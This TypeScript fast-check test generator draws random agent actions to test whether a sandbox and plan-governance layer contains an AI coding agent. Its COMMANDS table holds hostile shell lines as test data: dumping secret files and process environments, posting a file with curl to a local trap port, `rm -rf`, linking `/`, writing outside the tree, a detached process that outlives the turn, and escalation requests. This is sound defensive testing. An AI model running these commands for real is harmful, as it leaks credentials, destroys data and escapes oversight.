import { appendFileSync, chmodSync, mkdirSync, renameSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import fc from "fast-check";
import type { PlannedFile } from "../../src/governance/plan.ts";
import { evaluatePlan } from "../../src/governance/plan-rules.ts";
import type { TreeEntry } from "../../src/governance/tree.ts";
import { planContext, planned, planOf } from "../governance/builders.ts";
import { applyPatch, callFunction, type OutputItem, shell } from "../world/model.ts";
import { CODE_MODE_MODEL, inCode, patchInCode } from "./acts/act.ts";
import { ODD_PATHS } from "./acts/patch-acts.ts";
import { FILES } from "./arena.ts";
import { SMUGGLED } from "./leaks.ts";
import type { Place, Script, Step } from "./script.ts";

/** One thing that is tried, as plain data: fast-check prints it, and it can be tried again. */
type DrawnAct =
  | { readonly kind: "patch"; readonly changes: readonly DrawnChange[] }
  | {
      readonly kind: "command";
      readonly command: keyof typeof COMMANDS;
      readonly path: string;
      readonly escalated: boolean;
    }
  | { readonly kind: "call"; readonly tool: string; readonly given: unknown }
  | { readonly kind: "breach"; readonly breach: keyof typeof BREACHES; readonly path: string };

interface DrawnChange {
  readonly operation: "add" | "update" | "delete" | "move";
  readonly path: string;
  readonly to: string;
  readonly text: string;
}

export interface DrawnScript {
  readonly files: readonly PlannedFile[];
  readonly isCodeMode: boolean;
  /** What the model answers, one list an answer. */
  readonly answers: readonly (readonly DrawnAct[])[];
}

const quoted = (text: string): string => `'${text.replaceAll("'", "'\\''")}'`;

const COMMANDS = {
  write: (path: string) => `mkdir -p -- "$(dirname -- ${path})"; echo ${SMUGGLED} > ${path}`,
  append: (path: string) => `echo ${SMUGGLED} >> ${path}; sed -i s/o/${SMUGGLED}/ -- ${path}`,
  mode: (path: string) => `chmod 755 -- ${path}`,
  delete: (path: string) => `rm -rf -- ${path}`,
  move: (path: string) => `mv -- src/b.txt ${path}; cp -r -- src ${path}`,
  link: (path: string) => `ln -sfn / ${path}; ln -- src/a.txt ${path}`,
  special: (path: string) => `mkfifo -- ${path}; git init -q -- ${path}`,
  read: (path: string, { secretFiles }: Place) => `cat -- ${path} ${secretFiles.join(" ")}; env; cat /proc/*/environ`,
  connect: (path: string, { trap }: Place) => `curl -m 1 -d @${path} http://127.0.0.1:${trap.tcpPort}/`,
  outside: (path: string, { mark, neighbour, temporary }: Place) =>
    `touch /tmp/${mark} ${temporary}/${mark} ${neighbour} /proc/self/cwd/../${path}`,
  linger: (path: string, { mark }: Place) =>
    `(setsid sh -c 'while sleep 0.05; do echo ${SMUGGLED} >> "$1"; done' ${mark} ${path} >/dev/null 2>&1 &)`,
} as const;

/** Done to the tree by the test itself, as if there were no sandbox. The paths stay inside the tree. */
const BREACHES = {
  write: (path: string) => {
    mkdirSync(dirname(path), { recursive: true });
    writeFileSync(path, "breached\n");
  },
  append: (path: string) => appendFileSync(path, "breached\n"),
  executable: (path: string) => chmodSync(path, 0o755),
  plain: (path: string) => chmodSync(path, 0o644),
  delete: (path: string) => rmSync(path, { recursive: true }),
  away: (path: string) => renameSync(path, `${path}.moved`),
  link: (path: string) => {
    rmSync(path, { recursive: true, force: true });
    symlinkSync("src/b.txt", path);
  },
  directory: (path: string) => mkdirSync(path, { recursive: true }),
} as const;

const EXISTING = Object.keys(FILES);
const NEW = ["src/new.txt", "new/deep/x.txt", "docs/api.md", "a b.txt", "src/é.txt"];

const entries = Object.entries(FILES).map(([path, content]): TreeEntry => {
  const mode = typeof content === "object" && content !== null && "mode" in content ? content.mode : "100644";
  return { path, mode, oid: "1" };
});

/** Plans that the rules let through: only those can be approved. */
const plans: fc.Arbitrary<readonly PlannedFile[]> = fc
  .tuple(fc.shuffledSubarray(EXISTING, { minLength: 2, maxLength: 5 }), fc.shuffledSubarray(NEW, { maxLength: 3 }))
  .map(([existing, fresh]) => {
    const [renamed = "", deleted = "", ...modified] = existing;
    const [target, ...created] = fresh;
    return [
      ...(target === undefined ? [] : [planned("rename", target, renamed)]),
      planned("delete", deleted),
      ...modified.map((path) => planned("modify", path)),
      ...created.map((path) => planned("create", path)),
    ];
  })
  .filter((files) => evaluatePlan(planOf(files), planContext({ entries })).reasonCode === undefined);

function actsFor(files: readonly PlannedFile[]): fc.Arbitrary<DrawnAct> {
  const listed = files.flatMap(({ path, from }) => (from === undefined ? [path] : [path, from]));
  const path = fc.oneof(
    { weight: 4, arbitrary: fc.constantFrom(...listed) },
    { weight: 2, arbitrary: fc.constantFrom(...EXISTING, ...NEW) },
    { weight: 2, arbitrary: fc.constantFrom(...ODD_PATHS) },
    {
      weight: 1,
      arbitrary: fc.string({ unit: "grapheme", minLength: 1, maxLength: 12 }).map((text) => text.replaceAll("\0", "0")),
    },
  );
  const text = fc.oneof(
    fc.constantFrom("new line", "*** End Patch", "+++ b/src/b.txt", "\u202E", ""),
    fc.string({ unit: "binary", maxLength: 40 }).map((drawn) => drawn.toWellFormed()),
  );
  const free = fc.record({ operation: fc.constantFrom("add", "update", "delete", "move"), path, to: path, text });
  const obedient = fc.constantFrom(...files).chain(({ path: target, operation, from }) => {
    const way = ({ create: "add", modify: "update", delete: "delete", rename: "move" } as const)[operation];
    return fc.record({ operation: fc.constant(way), path: fc.constant(from ?? target), to: fc.constant(target), text });
  });
  const patch = (change: fc.Arbitrary<DrawnChange>, maxLength: number) =>
    fc.record({ kind: fc.constant("patch" as const), changes: fc.array(change, { minLength: 1, maxLength }) });
  const names = <T extends object>(table: T) => fc.constantFrom(...(Object.keys(table) as (keyof T)[]));
  const inside = path.filter((name) => !/^[/~]|(^|\/)\.\.(\/|$)/.test(name));
  return fc.oneof(
    { weight: 8, arbitrary: patch(obedient, 1) },
    { weight: 3, arbitrary: patch(free, 2) },
    {
      weight: 4,
      arbitrary: fc.record({
        kind: fc.constant("command" as const),
        command: names(COMMANDS),
        path,
        escalated: fc.nat(5).map((n) => n === 0),
      }),
    },
    {
      weight: 1,
      arbitrary: fc.record({ kind: fc.constant("breach" as const), breach: names(BREACHES), path: inside }),
    },
    {
      weight: 1,
      arbitrary: fc.record({
        kind: fc.constant("call" as const),
        tool: fc.constantFrom(
          "exec_command",
          "write_stdin",
          "view_image",
          "apply_patch",
          "request_permissions",
          "spawn_agent",
        ),
        given: fc.dictionary(
          fc.constantFrom("cmd", "path", "session_id", "input", "sandbox_permissions"),
          fc.jsonValue({ maxDepth: 1 }),
        ),
      }),
    },
  );
}

export const scripts: fc.Arbitrary<DrawnScript> = plans.chain((files) =>
  fc.record({
    files: fc.constant(files),
    isCodeMode: fc.nat(3).map((n) => n === 0),
    answers: fc.array(fc.array(actsFor(files), { minLength: 1, maxLength: 2 }), { minLength: 1, maxLength: 5 }),
  }),
);

function linesOf({ operation, path, to, text }: DrawnChange): string[] {
  const hunk = ["@@", `+${text}`];
  if (operation === "add") return [`*** Add File: ${path}`, `+${text}`];
  if (operation === "delete") return [`*** Delete File: ${path}`];
  return [`*** Update File: ${path}`, ...(operation === "move" ? [`*** Move to: ${to}`] : []), ...hunk];
}

function perform(act: DrawnAct, place: Place, isCodeMode: boolean): readonly OutputItem[] {
  if (act.kind === "patch") {
    const lines = act.changes.flatMap(linesOf);
    return [isCodeMode ? patchInCode(...lines) : applyPatch(lines)];
  }
  if (act.kind === "command") {
    const cmd = COMMANDS[act.command](quoted(act.path), place);
    const more = act.escalated ? { sandbox_permissions: "require_escalated" as const, justification: "please" } : {};
    return [isCodeMode ? inCode("exec_command", { cmd, ...more }) : shell({ cmd, yield_time_ms: 8_000, ...more })];
  }
  if (act.kind === "call") return [isCodeMode ? inCode(act.tool, act.given) : callFunction(act.tool, act.given)];
  try {
    BREACHES[act.breach](join(place.tree, act.path));
  } catch {
    // There is no such file, or the name is taken: then nothing happens, as for any other program.
  }
  return [];
}

export function scriptOf({ files, isCodeMode, answers }: DrawnScript): Script {
  const steps = answers.map(
    (acts): Step =>
      (place) => {
        const items = acts.flatMap((act) => perform(act, place, isCodeMode));
        // An answer without a tool call would end the turn.
        return items.length > 0
          ? items
          : [isCodeMode ? inCode("exec_command", { cmd: "true" }) : shell({ cmd: "true" })];
      },
  );
  return { files, steps, ...(isCodeMode ? { model: CODE_MODE_MODEL } : {}) };
}

export const namesOfActs = ({ answers }: DrawnScript): readonly string[] =>
  answers.flat().map((act) => (act.kind === "command" ? act.command : act.kind === "breach" ? act.breach : act.kind));
